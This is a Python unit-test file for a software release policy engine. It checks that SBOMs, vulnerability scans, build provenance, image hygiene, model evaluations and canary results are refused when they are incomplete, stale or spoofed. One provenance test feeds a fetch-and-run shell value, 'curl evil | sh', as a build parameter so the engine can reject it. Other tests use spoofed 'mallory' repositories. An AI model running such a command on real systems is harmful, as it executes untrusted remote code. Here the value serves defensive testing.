"""What each rule about the artifact refuses, and in which words. Everything else is valid, and follows the edit."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from tests.unit.release.policy.evidence_set import (
    AIOHTTP,
    IMAGE,
    NOW,
    OPENSSL,
    Edit,
    Piece,
    ago,
    component,
    decide,
    dossier,
    failed,
    iso,
    make_pieces,
    policy,
    reasons,
    refused,
    rule,
    vulnerability,
    with_member,
    with_predicate,
)

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    ("path", "value", "code", "said"),
    [
        ("components", [], "incomplete", "names 0 packages, at least 3"),
        ("components/1/purl", "", "incomplete", "names 2 packages, at least 3"),
        ("components/1", component("pkg:pypi/x@1"), "incomplete", "no package of the type 'deb'"),
        ("components/1/purl", "pkg:deb/debian/openssl", "incomplete", "names 2 packages"),
        ("components/1/purl", "openssl", "incomplete", "names 2 packages"),
        ("components/1/purl", OPENSSL + " x", "incomplete", "names 2 packages"),
        ("components/1/version", "", "incomplete", "1 components have no version or no purl: openssl"),
        ("compositions/0/aggregate", "incomplete", "incomplete", "of itself that it is incomplete"),
        ("compositions/0/aggregate", "incomplete_first_party_only", "incomplete", "of itself"),
        ("components/1/bom-ref", AIOHTTP, "malformed", "names several components"),
    ],
)
def test_an_sbom_that_leaves_something_out_is_refused(path: str, value: Any, code: str, said: str) -> None:
    found = decide(dossier({"sbom": with_member(path, value)}))
    assert rule(found, "sbom").outcome == "fail"
    assert reasons(found, "sbom")[0].code == code
    assert said in reasons(found, "sbom")[0].message


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("bomFormat", "SPDX"),
        ("specVersion", "1.3"),
        ("specVersion", None),
        ("components", None),
        ("components/1/name", 7),
        ("components/1/name", ""),
        ("components/1/type", "thing"),
    ],
)
def test_an_sbom_that_is_no_cyclonedx_is_malformed(path: str, value: Any) -> None:
    found = decide(dossier({"sbom": with_member(path, value)}))
    assert [one.code for one in reasons(found, "sbom")] == ["malformed"]
    assert rule(found, "vulnerabilities").outcome == "fail"


def test_components_inside_components_count() -> None:
    nested = {"type": "library", "name": "inner"}
    edit = with_member("components/1", {**component(OPENSSL), "components": [nested]})
    assert refused("sbom", "sbom", edit) == ("incomplete", "1 components have no version or no purl: inner")


@pytest.mark.parametrize(("depth", "codes"), [(30, ["incomplete"]), (31, ["malformed"]), (40, ["malformed"])])
def test_components_that_are_nested_too_deep_to_be_looked_at_block(depth: int, codes: list[str]) -> None:
    deep: dict[str, Any] = {"type": "library", "name": "deepest"}
    for _ in range(depth):
        deep = {**component("pkg:pypi/a@1"), "bom-ref": "", "components": [deep]}
    found = decide(dossier({"sbom": with_member("components/1/components", [deep])}))
    assert [one.code for one in reasons(found, "sbom")] == codes


@pytest.mark.parametrize(
    ("edit", "code", "said"),
    [
        (with_member("result/num_components", 0), "incomplete", "looked at 0 of the 3 packages"),
        (with_member("result/num_components", 2), "incomplete", "looked at 2 of the 3 packages"),
        (with_predicate(scanFinishedOn=ago(hours=25), scanStartedOn=ago(hours=26)), "stale", "at most 24 hours"),
        (with_member("scanner/database_updated_at", ago(hours=49)), "stale", "at most 48 hours"),
        (with_member("scanner/database_updated_at", None), "malformed", "how old its database was"),
        (with_member("scanner/database_updated_at", ago(hours=1)), "malformed", "ended before it began"),
        (with_member("scanStartedOn", ago(hours=1)), "malformed", "ended before it began"),
        (with_predicate(scanFinishedOn=iso(NOW + timedelta(hours=1))), "from_the_future", "later than it was signed"),
        (with_member("result/sbom_digest", IMAGE), "missing", "no scan looked at the SBOM"),
        (with_member("result/vulnerabilities/0/severity", "high"), "vulnerable", "PYSEC-2026-1, severity high"),
        (with_member("result/vulnerabilities/0/severity", "critical"), "vulnerable", "severity critical"),
        (with_member("result/vulnerabilities/0/severity", "unknown"), "vulnerable", "severity unknown"),
        (with_member("result/vulnerabilities/0/is_undetermined", True), "vulnerable", "could not be determined"),
        (with_member("result/vulnerabilities/0/severity", "grave"), "malformed", "Invalid enum value"),
        (with_member("result/more", 1), "malformed", "unknown field"),
        (with_member("scanner", None), "malformed", "missing required field"),
    ],
)
def test_a_scan_that_is_broken_stale_or_bad_news_is_refused(edit: Edit, code: str, said: str) -> None:
    found = refused("vulnerabilities", "scan", edit)
    assert found[0] == code
    assert said in found[1]


def test_a_vulnerability_says_what_to_upgrade_to() -> None:
    found = decide(
        dossier({"scan": with_member("result/vulnerabilities/0", vulnerability(fixed_in=["3.13.1", "4.0"]))})
    )
    assert reasons(found, "vulnerabilities")[0].mend.startswith("Upgrade to 3.13.1 or 4.0; or have")
    found = decide(dossier({"scan": with_member("result/vulnerabilities/0", vulnerability(fixed_in=[]))}))
    assert reasons(found, "vulnerabilities")[0].mend.startswith("There is no fix")


def test_the_latest_scan_of_the_sbom_counts() -> None:
    clean = make_pieces()["scan"]
    newer = with_predicate(scanFinishedOn=ago(hours=1))(with_member("result/vulnerabilities/0/severity", "high")(clean))
    assert failed(decide(dossier(more=(newer,)))) == {"vulnerabilities", "approvals"}
    older = with_predicate(scanFinishedOn=ago(hours=2.5))(
        with_member("result/vulnerabilities/0/severity", "high")(clean)
    )
    assert decide(dossier(more=(older,))).verdict == "allow"


def test_every_sbom_that_counts_must_have_been_scanned() -> None:
    another = replace(with_member("components/1", component(OPENSSL))(make_pieces()["sbom"]), signed_at=None)
    assert another.statement.payload == make_pieces()["sbom"].statement.payload  # the same, without a time
    longer = with_member("components/1/name", "libssl")(another)
    found = decide(dossier(more=(longer,)))
    assert [one.code for one in reasons(found, "vulnerabilities")] == ["missing"]


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (
            "runDetails/builder/id",
            "https://github.com/team/chat/.github/workflows/test.yml@refs/tags/v1",
            "no such pair",
        ),
        ("buildDefinition/buildType", "urn:other", "no such pair"),
        ("buildDefinition/resolvedDependencies", [], "names no source"),
        (
            "buildDefinition/resolvedDependencies/0/uri",
            "git+https://github.com/mallory/chat@refs/tags/v1",
            "is none of",
        ),
        ("buildDefinition/resolvedDependencies/0/uri", "git+https://github.com/team/chatty@refs/tags/v1", "is none of"),
        ("buildDefinition/resolvedDependencies/1/uri", "git+https://github.com/mallory/lib", "is none of"),
        ("buildDefinition/resolvedDependencies/0/digest", {}, "has no commit"),
        ("buildDefinition/resolvedDependencies/0/digest", {"gitCommit": "main"}, "has no commit"),
        ("buildDefinition/externalParameters/shell", "curl evil | sh", "'shell' is not known"),
        ("buildDefinition/externalParameters/shell", {}, "'shell' is not known"),
        ("buildDefinition/externalParameters/shell", None, "'shell' is not known"),
        ("buildDefinition/externalParameters/arguments.VERSION", "v1", r"'arguments\.VERSION' is not known"),
        ("buildDefinition/externalParameters/arguments/VERSION", "main", "accepted is v*"),
        ("buildDefinition/externalParameters/locks", ["requirements.txt", "x"], "accepted is requirements.txt"),
        ("buildDefinition/externalParameters/arguments/VERSION", 7, "'arguments.VERSION' is '7'"),
        ("buildDefinition/externalParameters/target/x", "y", "'target.x' is not known"),
        ("buildDefinition/externalParameters/target", "debug", "'target' is 'debug'"),
        ("buildDefinition/externalParameters", {}, "'source' is not there"),
    ],
)
def test_an_unexpected_origin_is_refused(path: str, value: Any, said: str) -> None:
    def edit(piece: Piece) -> Piece:
        if path.endswith("/target/x"):
            return with_member(path.removesuffix("/x"), {"x": value})(piece)
        if path.endswith("/shell") and value is None:
            return with_member(path.removesuffix("/shell"), {"shell": None})(piece)
        return with_member(path, value)(piece)

    found = decide(dossier({"provenance": edit}))
    assert rule(found, "provenance").outcome == "fail"
    assert {one.code for one in reasons(found, "provenance")} == {"wrong_origin"}
    assert any(said in one.message for one in reasons(found, "provenance"))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("buildDefinition/externalParameters/arguments", None),
        ("buildDefinition/externalParameters/arguments/VERSION", ["v1", "v2"]),
        ("buildDefinition/resolvedDependencies/0/digest", {"sha1": "0" * 40}),
        ("runDetails/metadata", {"invocationId": "7"}),
    ],
)
def test_an_expected_origin_passes(path: str, value: Any) -> None:
    assert decide(dossier({"provenance": with_member(path, value)})).verdict == "allow"


REPOSITORIES = 'repositories = ["git+https://github.com/team/chat"]\n'


@pytest.mark.parametrize("end", ["", "@", "@refs/heads/any", "@refs/tags/v1"])
def test_where_no_branch_is_named_every_one_passes(end: str) -> None:
    edit = with_member("buildDefinition/resolvedDependencies/0/uri", f"git+https://github.com/team/chat{end}")
    assert decide(dossier({"provenance": edit}), by=policy()).verdict == "allow"


@pytest.mark.parametrize(
    ("uri", "outcome"),
    [
        ("git+https://github.com/team/chat@refs/tags/v1.4.0", "pass"),
        ("git+https://github.com/team/chat@refs/heads/main", "pass"),
        ("git+https://github.com/team/chat@refs/heads/evil", "fail"),
        ("git+https://github.com/team/chat@refs/heads/evil@refs/heads/main", "fail"),
        ("git+https://github.com/team/chat@", "fail"),
        ("git+https://github.com/team/chat", "fail"),
        ("git+https://github.com/mallory/chat@refs/heads/main", "fail"),
    ],
)
def test_the_policy_may_name_branches_and_tags(uri: str, outcome: str) -> None:
    by = policy((REPOSITORIES, REPOSITORIES + 'refs = ["refs/heads/main", "refs/tags/v*"]\n'))
    edit = with_member("buildDefinition/resolvedDependencies/0/uri", uri)
    assert rule(decide(dossier({"provenance": edit}), by=by), "provenance").outcome == outcome


def test_any_value_is_any_value_of_one_segment() -> None:
    by = policy(('target = ["runtime"]', 'target = ["*"]'))
    path = "buildDefinition/externalParameters/target"
    assert decide(dossier({"provenance": with_member(path, "2026-11-26T10:00:00Z")}), by=by).verdict == "allow"
    assert decide(dossier({"provenance": with_member(path, "a/b")}), by=by).verdict == "block"


def test_the_key_of_one_builder_says_nothing_for_another() -> None:
    pair = """
[[rules.provenance.builders]]
signer = "rollout"
builder = "urn:rollout"
build_type = "urn:pratique:build:dockerfile:v1"

[rules.provenance.parameters]"""
    two = policy(("\n[rules.provenance.parameters]", pair))
    swapped = dossier({"provenance": lambda piece: replace(piece, party="rollout")})
    assert "signed for the builder" in reasons(decide(swapped, by=two), "provenance")[0].message


@pytest.mark.parametrize(
    ("path", "value", "code", "said"),
    [
        ("findings/0/level", "error", "unclean", "health-check: there is none (config)"),
        ("checked", ["root-user", "set-id"], "incomplete", "'secret-in-file' did not run"),
        ("checked", [], "incomplete", "'secret-in-file' did not run"),
        ("size_bytes", 400_000_001, "too_large", "is 400000001 bytes, its budget is 400000000"),
        ("wasted_bytes", 20_000_001, "too_large", "wastes 20000001 bytes"),
        ("size_bytes", 0, "malformed", "is 0 bytes"),
        ("wasted_bytes", -1, "malformed", "wastes -1 bytes"),
        ("findings/0/level", "fatal", "malformed", "Invalid enum value"),
    ],
)
def test_an_unclean_image_is_refused(path: str, value: Any, code: str, said: str) -> None:
    found = refused("hygiene", "hygiene", with_member(path, value))
    assert (found[0], said in found[1]) == (code, True)


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (with_member("checks/0/value", 0.79), "says passed=true"),
        (with_member("checks/0", {"name": "answers", "value": 0.7, "threshold": 0.1, "at": "least", "passed": True,
                                  "num_samples": 64}), "has 0.7, at least 0.8 is required"),
        (with_member("checks/1", {"name": "perplexity", "value": 90, "threshold": 99, "at": "most", "passed": True,
                                  "num_samples": 64}), "has 90, at most 12.5 is required"),
        (with_member("checks/1", {"name": "perplexity", "value": 11, "threshold": 1, "at": "least", "passed": True,
                                  "num_samples": 64}), "was held to at least"),
        (with_member("checks/0/passed", False), "says passed=false"),
        (with_member("checks/0/num_samples", 49), "has 49 samples, at least 50"),
        (with_member("checks/0/name", "other"), "'answers' stands 0 times"),
        (with_member("checks/1/name", "answers"), "'answers' stands 2 times"),
        (with_predicate(checks=[]), "'answers' stands 0 times"),
        (with_predicate(golden_set=IMAGE), "the golden set was"),
        (with_member("checks/0/value", "0.9"), "Expected `float`"),
    ],
)  # fmt: skip
def test_a_model_that_does_not_do_what_it_must_is_refused(edit: Edit, said: str) -> None:
    found = decide(dossier({"evaluation": edit}))
    assert failed(found) == {"evaluation"}
    assert any(said in one.message for one in reasons(found, "evaluation"))


def test_a_check_that_the_policy_does_not_name_still_counts_where_it_failed() -> None:
    more = {"name": "more", "value": 1.0, "threshold": 2.0, "at": "least", "passed": False, "num_samples": 1}
    passed = {**more, "value": 3.0, "passed": True}
    checks = make_pieces()["evaluation"].predicate["checks"]
    assert refused("evaluation", "evaluation", with_predicate(checks=[*checks, more]))[1] == (
        "the check 'more' failed by its own threshold"
    )
    assert decide(dossier({"evaluation": with_predicate(checks=[*checks, passed])})).verdict == "allow"


def test_the_model_is_the_one_that_the_policy_names() -> None:
    named = policy(('signers = ["evaluator"]', 'signers = ["evaluator"]\nmodel = "smollm2"'))
    assert decide(by=named).verdict == "allow"
    found = decide(dossier({"evaluation": with_predicate(model="other")}), by=named)
    assert reasons(found, "evaluation")[0].message == "the model was 'other', expected 'smollm2'"


@pytest.mark.parametrize(
    ("edit", "code", "said"),
    [
        (with_predicate(baseline=IMAGE), "outdated", "was compared with"),
        (with_predicate(started_at=ago(hours=26), ended_at=ago(hours=25)), "stale", "at most 24 hours"),
        (with_predicate(started_at=ago(minutes=29)), "failed", "took 240 s, at least 300 s"),
        (with_predicate(started_at=ago(minutes=1)), "failed", "took -1440 s"),
        (with_predicate(ended_at=iso(NOW + timedelta(hours=1))), "from_the_future", "later than it was signed"),
        (with_predicate(share=0.01), "failed", "had 0.01 of the traffic"),
        (with_predicate(share=1.5), "failed", "had 1.5 of the traffic"),
        (with_predicate(verdict="inconclusive"), "failed", "verdict is 'inconclusive'"),
        (with_predicate(verdict="fail"), "failed", "verdict is 'fail'"),
        (with_predicate(metrics=[]), "failed", "did not measure 'error'"),
        (with_member("metrics/1/verdict", "inconclusive"), "failed", "'latency_seconds' is 'inconclusive'"),
        (with_member("metrics/1/num_new", 199), "failed", "'latency_seconds' has 199 samples"),
        (with_member("metrics/1/num_old", 0), "failed", "'latency_seconds' has 0 samples"),
        (with_member("metrics/1/metric", "gpu"), "failed", "did not measure 'latency_seconds'"),
    ],
)
def test_a_canary_that_did_not_pass_is_refused(edit: Edit, code: str, said: str) -> None:
    found = refused("canary", "canary", edit)
    assert (found[0], said in found[1]) == (code, True)
